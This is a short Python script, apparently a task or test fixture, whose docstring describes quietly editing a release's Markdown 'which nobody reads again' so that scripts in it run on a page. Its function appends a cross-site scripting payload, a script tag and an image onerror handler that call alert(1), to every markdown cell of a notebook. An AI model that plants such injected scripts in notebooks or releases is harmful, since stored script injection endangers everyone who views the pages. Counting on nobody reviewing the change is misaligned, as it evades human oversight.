"""Edit the Markdown of the release, which nobody reads again. Success: scripts in it are active on a page."""


def make(notebook, folder):
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = "".join(cell["source"]) + "\n\n<script>alert(1)</script><img src=x onerror='alert(1)'>"
    return notebook
